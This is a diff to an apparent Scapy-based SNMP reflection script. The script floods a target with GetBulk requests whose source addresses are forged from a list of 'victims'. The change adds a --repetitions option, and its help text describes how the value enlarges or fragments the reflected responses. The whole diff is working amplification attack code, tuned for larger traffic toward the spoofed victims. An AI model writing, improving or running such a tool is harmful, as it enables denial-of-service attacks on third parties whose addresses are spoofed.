@@ -29,6 +29,8 @@ def main():
     s.add_argument("--count", type=int, default=100)
     s.add_argument("--rate", type=float, default=50.0, help="requests a second")
     s.add_argument("--secs", type=float, default=20.0, help="time limit")
+    s.add_argument("--repetitions", type=int, default=40,
+                   help="max-repetitions: 40 makes about 1.4 KB answers, 120 answers in IP fragments")
     a = ap.parse_args()
     conf.verb = 0
     victims = a.src.split(",")
@@ -39,7 +41,7 @@ def main():
         src = victims[sent % len(victims)]
         req = SNMP(version=1, community="public",
                    PDU=SNMPbulk(id=rnd.randint(1, 2**31 - 1), non_repeaters=0,
-                                max_repetitions=40,
+                                max_repetitions=a.repetitions,
                                 varbindlist=[SNMPvarbind(oid=ASN1_OID("1.3.6.1.2.1.1"))]))
         send(IP(src=src, dst=a.dst) / UDP(sport=rnd.randint(20000, 60999), dport=161) / req)
         sent += 1
